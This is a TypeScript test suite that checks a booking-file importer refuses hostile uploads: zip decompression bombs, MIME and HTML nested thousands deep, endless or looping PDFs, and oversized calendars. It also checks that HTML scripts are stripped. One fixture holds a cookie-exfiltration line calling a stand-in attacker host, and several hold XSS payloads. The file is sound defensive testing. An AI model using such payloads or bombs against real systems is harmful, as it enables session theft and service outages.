import { strToU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  boardingPassPdf,
  deflateBomb,
  pdfWithLines,
  zipOf,
} from '#tests/fixtures/bookings/make-files';
import { readBookings } from './index';
import { pdfText } from './pdf';

/**
 * Hostile files get a clear error and never hang: each test has a bound of a few seconds (the
 * test's timeout), far below what the unbounded work would take (a gigabyte inflated, a 200,000
 * deep HTML tree parsed at a cost that grows with its square).
 */
const file = (bytes: Uint8Array | string) => ({
  file: {
    name: 'upload.bin',
    bytes: typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes,
  },
});

const refused = (code: string, message?: string) =>
  expect.objectContaining({ code, ...(message ? { message } : {}) });

/** Deterministic noise: the same bytes on every run. */
function noise(length: number, seed: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    bytes[i] = x >> 16;
  }
  return bytes;
}

describe('readBookings: hostile archives', () => {
  it('refuses a pass whose pass.json inflates to a gigabyte though its header says 2 KB', async () => {
    const bomb = zipOf([
      { name: 'pass.json', data: deflateBomb(1024), method: 8, declaredSize: 2000 },
    ]);
    await expect(readBookings(file(bomb))).rejects.toEqual(
      refused('unreadable_file', 'pass.json in this archive is too large (a pass’s is a few KB).'),
    );
  }, 5000);

  it('refuses a pass whose header declares a pass.json of more than a megabyte, before inflating it', async () => {
    const big = zipOf([
      { name: 'pass.json', data: deflateBomb(2), method: 8, declaredSize: 2 * 1024 * 1024 },
    ]);
    await expect(readBookings(file(big))).rejects.toEqual(refused('unreadable_file'));
  }, 5000);

  it('refuses an archive of too many entries, one that is not a pass, and one cut short', async () => {
    const many = zipOf(
      Array.from({ length: 5000 }, (_, i) => ({
        name: `f${i}.png`,
        data: new Uint8Array(0),
        method: 0 as const,
        declaredSize: 0,
      })),
    );
    await expect(readBookings(file(many))).rejects.toEqual(
      refused('unreadable_file', 'This archive holds too many files (100 at most in a pass).'),
    );
    const notAPass = zipOf([
      { name: 'readme.txt', data: strToU8('hello'), method: 0, declaredSize: 5 },
    ]);
    await expect(readBookings(file(notAPass))).rejects.toEqual(
      refused('unreadable_file', 'This archive is not a Wallet pass.'),
    );
    const cut = zipOf([{ name: 'pass.json', data: strToU8('{}'), method: 0, declaredSize: 2 }]);
    await expect(readBookings(file(cut.subarray(0, 40)))).rejects.toEqual(
      refused('unreadable_file'),
    );
  }, 5000);
});

describe('readBookings: hostile e-mails and HTML', () => {
  const headers = 'From: a@example.test\r\nSubject: Your booking\r\nMIME-Version: 1.0\r\n';

  it('refuses multiparts nested thousands deep', async () => {
    let mail = headers;
    for (let i = 0; i < 5000; i++)
      mail += `Content-Type: multipart/mixed; boundary="b${i}"\r\n\r\n--b${i}\r\n`;
    await expect(readBookings(file(mail))).rejects.toEqual(refused('unreadable_file'));
  }, 5000);

  it('refuses an e-mail of twenty thousand parts', async () => {
    let mail = `${headers}Content-Type: multipart/mixed; boundary="b"\r\n\r\n`;
    for (let i = 0; i < 20_000; i++) mail += `--b\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`;
    await expect(readBookings(file(`${mail}--b--\r\n`))).rejects.toEqual(
      refused('unreadable_file', 'This e-mail has too many parts (200 at most).'),
    );
  }, 5000);

  it('answers a malformed MIME tree (no boundary, broken encodings) with no booking found', async () => {
    const mail = `${headers}Content-Type: multipart/alternative\r\nContent-Transfer-Encoding: base64\r\n\r\n--\r\n--\r\n=?=?%%%\r\n`;
    await expect(readBookings({ text: mail })).rejects.toEqual(
      refused('no_booking_found', 'No booking found in this file'),
    );
  }, 5000);

  it('refuses HTML nested 200,000 deep before parsing it', async () => {
    const html = `<html><body>${'<div>'.repeat(200_000)}x${'</div>'.repeat(200_000)}</body></html>`;
    await expect(readBookings({ text: html })).rejects.toEqual(
      refused('unreadable_file', 'This HTML is nested too deeply to be a confirmation.'),
    );
  }, 5000);

  it('reads text of endless unclosed tags in linear time', async () => {
    const unclosedTags = `<html>${'<a'.repeat(2_000_000)}`;
    const unclosedScripts = `<html><script type="application/ld+json">{"@type":"LodgingReservation","reservationFor":{"name":"${'<script'.repeat(500_000)}"}}</script>`;
    const endlessTypes = '{"@type": "LodgingReservation", '.repeat(300_000);
    for (const text of [unclosedTags, unclosedScripts, endlessTypes]) {
      await expect(readBookings({ text })).rejects.toEqual(refused('no_booking_found'));
    }
  }, 10_000);

  it('keeps no script, tag or handler of the HTML in a draft: values are plain text', async () => {
    const html = `<html><head><script>fetch('https://evil.example.test/'+document.cookie)</script>
      <script type="application/ld+json">{"@context":"http://schema.org","@type":"LodgingReservation",
      "reservationNumber":"<script>alert(1)<\\/script>AB12",
      "reservationFor":{"@type":"Hotel","name":"Hotel <img src=x onerror=alert(2)>Mar<script>steal()<\\/script> Azul",
      "address":{"streetAddress":"<b>Rua</b> das Flores 5","addressLocality":"Porto","addressCountry":"PT"}},
      "checkinTime":"2027-05-01T15:00:00+01:00","checkoutTime":"2027-05-03"}</script></head>
      <body onload="alert(3)"><p>Thanks!</p></body></html>`;
    const [stay] = await readBookings({ text: html });
    expect(stay).toMatchObject({
      kind: 'stay',
      title: 'Hotel Mar Azul',
      confirmationCode: 'AB12',
      start: { date: '2027-05-01', time: '15:00', timeZone: 'Europe/Lisbon' },
      end: { date: '2027-05-03', time: null, timeZone: 'Europe/Lisbon' },
      from: { name: 'Hotel Mar Azul', address: 'Rua das Flores 5, Porto, PT' },
    });
    expect(JSON.stringify(stay)).not.toMatch(/<|>|alert|steal|onerror|cookie/);
  }, 20_000);
});

describe('readBookings: hostile PDFs', () => {
  const endless = (size: number, withEnd: boolean) => {
    const head = strToU8(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 999999999 >>\nstream\n',
    );
    const bytes = new Uint8Array(head.length + size).fill(0x41);
    bytes.set(head);
    if (withEnd) bytes.set(strToU8('\n%%EOF\n'), bytes.length - 7);
    return bytes;
  };

  it('refuses a PDF that never ends (no end marker) without reading it', async () => {
    await expect(readBookings(file(endless(8_000_000, false)))).rejects.toEqual(
      refused('unreadable_file', 'This PDF is cut short or never ends (it has no end marker).'),
    );
  }, 5000);

  it('refuses a PDF whose one stream runs to its end, one whose page tree loops, and garbage after %PDF', async () => {
    await expect(readBookings(file(endless(8_000_000, true)))).rejects.toEqual(
      refused('unreadable_file'),
    );
    const loop =
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [2 0 R] /Count 1 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';
    await expect(readBookings(file(loop))).rejects.toEqual(refused('unreadable_file'));
    const garbage = noise(300_000, 7);
    garbage.set(strToU8('%PDF-1.4\n'));
    garbage.set(strToU8('\n%%EOF\n'), garbage.length - 7);
    await expect(readBookings(file(garbage))).rejects.toEqual(refused('unreadable_file'));
  }, 20_000);

  it('refuses a PDF still being read at its deadline', async () => {
    const pages = pdfWithLines(Array.from({ length: 60 }, (_, i) => `Line ${i}`));
    await expect(pdfText(pages, 0)).rejects.toEqual(
      refused('unreadable_file', 'This PDF took too long to read.'),
    );
    // The same document within the usual deadline reads.
    await expect(pdfText(boardingPassPdf())).resolves.toContain('Boarding pass');
  }, 20_000);
});

describe('readBookings: other hostile input', () => {
  it('refuses binary garbage, an empty file and a file over 10 MB', async () => {
    await expect(readBookings(file(noise(200_000, 12345)))).rejects.toEqual(
      refused(
        'unreadable_file',
        'This file is not an e-mail, a calendar file, a Wallet pass or a PDF.',
      ),
    );
    await expect(readBookings(file(new Uint8Array(0)))).rejects.toEqual(
      refused('unreadable_file', 'This file is empty.'),
    );
    await expect(readBookings(file(new Uint8Array(11 * 1024 * 1024)))).rejects.toEqual(
      expect.objectContaining({ status: 413, code: 'file_too_large' }),
    );
  }, 5000);

  it('answers a picture of a ticket with an unsupported file type', async () => {
    const png = Uint8Array.from(
      Buffer.from(
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'base64',
      ),
    );
    const jpeg = Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0]);
    for (const bytes of [png, jpeg]) {
      await expect(readBookings(file(bytes))).rejects.toEqual(
        expect.objectContaining({
          status: 422,
          code: 'unsupported_file_type',
          message:
            'A picture of a ticket cannot be read; send the confirmation e-mail, its PDF, a calendar file or a Wallet pass.',
        }),
      );
    }
  });

  it('refuses a calendar of sixty thousand events without parsing it', async () => {
    const event =
      'BEGIN:VEVENT\r\nDTSTART;TZID=Europe/Lisbon:20270314T100500\r\nSUMMARY:x\r\nEND:VEVENT\r\n';
    await expect(
      readBookings({ text: `BEGIN:VCALENDAR\r\n${event.repeat(60_000)}END:VCALENDAR\r\n` }),
    ).rejects.toEqual(
      refused('unreadable_file', 'This calendar file holds too many events (1,000 at most).'),
    );
  }, 5000);

  it('refuses a calendar file that is not one', async () => {
    await expect(
      readBookings({ text: 'BEGIN:VCALENDAR\r\nthis is not a calendar\r\n' }),
    ).rejects.toEqual(refused('unreadable_file', 'This calendar file cannot be read.'));
  }, 5000);
});
